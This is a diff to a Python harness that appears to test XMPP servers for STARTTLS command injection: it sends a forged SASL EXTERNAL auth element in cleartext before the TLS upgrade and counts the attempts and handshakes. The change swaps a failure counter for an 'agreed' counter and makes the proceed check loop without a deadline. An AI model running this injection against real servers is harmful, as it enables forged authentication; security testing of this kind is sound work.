@@ -13,6 +13,7 @@ from .ground import Ground, kind
 
 EXTERNAL = "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='EXTERNAL'>{}</auth>"
 WAIT_FOR_THE_HUB_S = 1.0
+PROCEED_WITHIN_S = 5.0
 
 
 def forged(ground: Ground) -> str:
@@ -29,7 +30,7 @@ def smuggle_behind_starttls(ground: Ground, asks: int, pause: bool) -> None:
     rest, so that the hub reads them apart.
     """
     ground.begin()
-    tried = ended_before = handshakes = 0
+    tried = agreed = handshakes = 0
     while not ground.over():
         tried += 1
         stream = None
@@ -39,15 +40,16 @@ def smuggle_behind_starttls(ground: Ground, asks: int, pause: bool) -> None:
             if pause:
                 time.sleep(0.2)
                 stream.send(forged(ground), within=2)
-            ended_before += not reaches_proceed(stream)
+            reaches_proceed(stream)
+            agreed += 1
             stream.restart()
             stream.start_tls(client_context(ground.certificate), name=ground.victim, within=2)
             handshakes += 1
             stream.send_header(from_=ground.domain, to=ground.victim)
             read_to_end(stream)
-        except (Closed, OSError, AssertionError):
+        except (Closed, OSError):
             pass
-    ground.done(1, tried=tried, ended_before=ended_before, handshakes=handshakes)
+    ground.done(1, tried=tried, agreed=agreed, handshakes=handshakes)
 
 
 def fill(ground: Ground, asks: int) -> Stream:
@@ -65,12 +67,12 @@ def fill(ground: Ground, asks: int) -> Stream:
 
 
 def reaches_proceed(stream: Stream) -> bool:
-    """Reads what the hub had to say in clear. @returns whether it agreed on TLS."""
-    seen = b""
-    deadline = time.monotonic() + WAIT_FOR_THE_HUB_S
-    while b"<proceed" not in seen[-400:] and time.monotonic() < deadline:
-        seen += stream.receive(WAIT_FOR_THE_HUB_S)
-    return b"<proceed" in seen[-400:]
+    """Reads what the hub had to say in clear, now with room for it. @returns whether it agreed on TLS."""
+    stream.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+    last = b""
+    while b"<proceed" not in last:
+        last = last[-20:] + stream.receive(PROCEED_WITHIN_S)
+    return True
 
 
 def read_to_end(stream: Stream) -> None:
